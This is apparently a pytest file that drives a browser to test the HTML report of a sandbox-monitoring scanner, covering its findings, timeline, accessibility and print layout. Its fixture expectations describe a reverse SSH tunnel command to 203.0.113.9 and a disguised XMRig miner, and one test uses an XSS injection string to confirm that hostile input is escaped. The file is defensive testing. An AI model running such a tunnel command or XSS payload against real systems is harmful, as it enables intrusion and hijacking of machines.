"""The page of a run as its reader has it: in a browser, by mouse and by keyboard, light, dark and on paper."""

import re
import time
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from scanner.model import Report
from scanner.model.run import Attempt, Endpoint, Process
from scanner.reports import html
from scanner.reports.plugin import RenderOptions
from tests.reports import runs
from tests.reports.browser import PHONE, violations

PLAIN = RenderOptions()
SPITE = '</script><script>document.title="taken"</script><!--<img src=x onerror="document.title=1">\u2028\u202e\x1b[2J'


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    folder = tmp_path_factory.mktemp("runs")
    made = {}
    for name, report in (("rome", runs.WATCHED), ("joined", runs.JOINED), ("flood", many(10_000))):
        made[name] = folder / f"{name}.html"
        made[name].write_text(html.render(report, PLAIN))
    return made


@pytest.fixture(scope="module")
def file(files: dict[str, Path]) -> Path:
    return files["rome"]


def many(count: int) -> Report:
    """So many attempts, each by a process of its own: nothing to fold."""
    attempts = tuple(
        Attempt(runs.START + n / 200, "tcp", Endpoint(f"192.0.2.{n % 250}", 1_000 + n % 7), pid=10_000 + n)
        for n in range(count)
    )
    processes = tuple(Process(10_000 + n, 1, (f"worker-{n}",)) for n in range(count))
    return runs.report(replace(runs.ROME, attempts=attempts, processes=processes))


def moments(page: Any) -> list[str]:
    """What the rows of the timeline's table say."""
    return [str(one) for one in page.locator("#moments-frame tbody td:nth-child(3)").all_inner_texts()]


def wait_for(page: Any, said: str) -> None:
    """Until the line below the timeline begins with these words."""
    page.wait_for_function("(said) => document.getElementById('moments-said').textContent.startsWith(said)", arg=said)


def rows(page: Any, part: str) -> list[list[str]]:
    return [one.locator("td").all_inner_texts() for one in page.locator(f"#{part} tbody tr").all()]


# ---- what it shows


def test_the_head_and_the_findings_come_first(page):
    assert page.title() == "container:rome-1: 2 critical, 1 medium"
    head = page.locator("#run-head").inner_text()
    assert "rome-1 of sandbox/agent:latest: observed where nothing can leave" in head
    assert "stopped: time limit of 60 s" in head
    found = page.locator("li.finding").all_inner_texts()
    assert "asked 203.0.113.9:22 for a tunnel back to port 2222" in found[0]
    assert len(found) == 3
    assert "4711 ssh -N -R 2222:localhost:22 ops@203.0.113.9" in found[0]


def test_what_was_tried_and_asked_are_tables(page):
    tried = rows(page, "tried")

    assert tried[1] == [
        "pool.example:3333 (198.18.0.7)",
        "tcp, stratum, 3 times",
        "4720 [kworker/0:1]",
        "method login, login 46yzCC…, agent XMRig/6.21.0",
        r'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"46yzCC"}}\n',
        "03:04:11.750 to 03:04:21.750",
    ]
    assert rows(page, "asked") == [
        ["pool.example", "A", "198.18.0.1:53 by udp", "2", "4720 [kworker/0:1]", "03:04:11.500"]
    ]


def test_changes_processes_sockets_and_gaps_are_told(page):
    assert (
        "libprocess.so.0 modified, with the size and the time that it had before"
        in page.locator("#changed").inner_text()
    )
    assert "Expected changes, 40 in all; policy: /work/**: 40" in page.locator("#changed").inner_text()
    nested = page.locator("#processes .tree > li > ul > li").all_inner_texts()
    assert [one.split(" ")[0] for one in nested] == ["4711", "4720", "4730"]
    assert "tcp listen 0.0.0.0:2222" in page.locator("#sockets").inner_text()
    limits = page.locator("#limits").inner_text()
    assert "it opens the engine" in limits
    assert "volume cache: its driver nfs is not on this machine" in limits
    assert "1,048,576 output bytes" in limits
    assert page.locator("#output pre").inner_text() == "collecting\nmining \\x1b[31mhard\\x1b[0m \\xff"


def test_a_run_alone_brings_no_graph(files):
    text = files["rome"].read_text()

    assert len(text) < 90_000
    assert "cytoscape(" not in text
    assert 'id="graph"' not in text


def test_a_run_and_a_launch_are_one_page(shared, files):
    with shared.shows(files["joined"]) as page:
        contents = page.locator("#contents a").all_inner_texts()
        assert [one.rstrip(" 0123456789") for one in contents] == [
            "At a glance",
            "Findings",
            "Layers",
            "What the run did",
            "What each sandbox reaches",
            "About this report",
        ]
        cells = [
            " ".join(one.split())
            for one in page.locator("#matrix-frame tbody tr").first.locator("td").all_inner_texts()
        ]
        assert cells == [
            "open tried",
            "limited not tried",
            "open (closed directly) not tried",
            "closed tried",
            "open (closed directly) not tried",
            "unknown tried",
            "closed not tried",
        ]
        host = page.locator(".answer[data-destination='host']").inner_text()
        assert "host: closed; tried, but closed" in host
        assert "tried, but closed by: the network default is internal (compose.yaml:20)" in host
        paths = page.locator(".answer[data-destination='internet'] .path > button").all_inner_texts()
        assert paths == ["Path: open, by plain sockets; connects as it is: curl (usr/bin/curl); possible and tried"]
        page.get_by_role("button", name="agent, internet: open tried").click()
        assert page.evaluate("sandscan.graph.elements('.on').length") > 0


@pytest.mark.parametrize("report", [runs.QUIET, runs.NAMELESS])
def test_a_run_that_showed_little_is_a_page(shared, tmp_path, report):
    (tmp_path / "q.html").write_text(html.render(report, PLAIN))
    with shared.shows(tmp_path / "q.html") as page:
        assert page.locator("#nothing").inner_text().startswith("Nothing found: 3 rules over one run")
        assert page.locator("#tried-part").is_hidden()
        assert page.locator("#timeline").is_visible() == bool(report.run and report.run.changes)


# ---- the timeline


def test_the_timeline_is_a_picture_and_a_table_that_say_the_same(page):
    told = moments(page)

    assert len(told) == 19
    assert "40 files added under /work/out" in told
    assert page.locator("#moments-said").inner_text() == "19 of 19 moments, 03:04:05.375 to 03:04:21.750"
    assert page.locator("#lanes svg").get_attribute("aria-label").startswith("Timeline of 19 moments")
    bars = {name: page.locator(f"#lanes rect.bar-{name}").count() for name in ("change", "process", "query", "socket")}
    assert bars == {"change": 5, "process": 5, "query": 1, "socket": 0}


def test_kinds_can_be_left_out_and_words_be_looked_for(page):
    page.get_by_role("checkbox", name="change").uncheck()
    assert len(moments(page)) == 14
    assert page.locator("#lanes rect.bar-change").count() == 0

    page.get_by_label("Find", exact=True).fill("KWORKER")
    wait_for(page, "6 of 19")
    assert all("kworker" in one.inner_text() for one in page.locator("#moments-frame tbody tr").all())

    page.get_by_label("Find", exact=True).fill("nowhere to be found")
    wait_for(page, "0 of 19")
    assert moments(page) == []


def test_time_is_zoomed_by_keyboard(page):
    page.get_by_role("button", name="Zoom in on the time").focus()
    for _ in range(3):
        page.keyboard.press("Enter")
    said = page.locator("#moments-said").inner_text()
    assert re.fullmatch(r"\d+ of 19 moments, 03:04:12.539 to 03:04:14.58\d", said)
    assert all("socket" not in one for one in moments(page))
    assert moments(page)[-1].startswith("tried [2001:db8::7]:443")

    page.get_by_role("button", name="Earlier").press("Enter")
    assert re.search(r"03:04:11.51\d to 03:04:13.56\d", page.locator("#moments-said").inner_text())
    page.get_by_role("button", name="All of it").press("Enter")
    assert len(moments(page)) == 19


def test_time_is_zoomed_by_drawing_over_the_picture(page):
    page.locator("#lanes").scroll_into_view_if_needed()
    box = page.locator("#lanes").bounding_box()
    page.mouse.move(box["x"] + 90, box["y"] + 40)
    page.mouse.down()
    page.mouse.move(box["x"] + box["width"] / 2, box["y"] + 40)
    page.mouse.up()

    said = page.locator("#moments-said").inner_text()
    assert re.search(r"^1\d of 19 moments, 03:04:05.\d{3} to 03:04:13.\d{3}$", said)


def test_ten_thousand_moments_stay_fluid(shared, files):
    with shared.shows(files["flood"]) as page:
        assert page.locator("#moments-frame tbody tr").count() == 200
        page.get_by_role("button", name="Show 200 more").click()
        assert page.locator("#moments-frame tbody tr").count() == 400
        begin = time.monotonic()
        page.get_by_label("Find", exact=True).fill("worker-9999")
        wait_for(page, "1 of ")
        page.get_by_role("button", name="All of it").click()
        page.get_by_role("button", name="Zoom in on the time").click()
        assert time.monotonic() - begin < 5
        assert page.locator("#lanes rect").count() < 2_000
        assert page.locator("#tried tbody tr").count() == 30
        page.get_by_role("button", name="All of it").click()
        page.get_by_label("Find", exact=True).fill("worker-10")
        wait_for(page, "111 of ")
        assert page.locator("#moments-more").is_hidden()
        page.get_by_label("Find", exact=True).fill("worker-1")
        wait_for(page, "1,11")
        while page.locator("#moments-more").is_visible():
            page.locator("#moments-more").press("Enter")
        told = page.locator("#moments-said").inner_text().split()[0]
        assert f"{page.locator('#moments-frame tbody tr').count():,}" == told
        assert page.evaluate("document.activeElement.ariaLabel") == "Moments of the run, table"
        page.get_by_role("button", name="Show all 500").click()
        assert page.locator("#tried tbody tr").count() == 500
        assert "the JSON report has them all" in page.locator("#tried").inner_text()


# ---- everybody's page


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("name", ["rome", "joined"])
def test_axe_finds_nothing_wrong(judged, axe, files, name, scheme):
    with judged.shows(files[name], color_scheme=scheme) as page:
        page.add_script_tag(content=axe)
        assert violations(page) == []


def test_nothing_is_wider_than_a_phone(shared, files):
    with shared.shows(files["joined"], PHONE) as page:
        assert page.evaluate("document.documentElement.scrollWidth") <= 320


def test_paper_is_white_and_has_no_controls(shared, files):
    with shared.shows(files["rome"], color_scheme="dark") as page:
        page.emulate_media(media="print")
        assert page.evaluate("getComputedStyle(document.body).backgroundColor") == "rgb(255, 255, 255)"
        assert page.get_by_role("button", name="All of it").count() == 0
        assert page.locator("#moments-frame table").is_visible()
        assert page.pdf(format="A4").startswith(b"%PDF-")


def test_what_is_not_on_paper_is_said_there(shared, files):
    with shared.shows(files["flood"], media="print") as page:
        assert page.locator("#moments-printed").inner_text() == "The first 200 of 10,011."
        assert page.locator("#tried .printed").inner_text() == "The first 30 of 500."
        assert not any(one.is_visible() for one in page.locator(".more").all())


def test_hostile_words_stay_text(shared, tmp_path):
    (tmp_path / "h.html").write_text(html.render(runs.spiteful(SPITE, 200), PLAIN))
    with shared.shows(tmp_path / "h.html") as page:
        assert page.locator("img").count() == 0
        assert page.locator("script").count() == 3
        assert page.title() != "taken"
        shown = page.locator("body").inner_text()
        assert '</script><script>document.title="taken"' in shown
        assert not re.search("[\u2028\u202e\x1b]", shown)
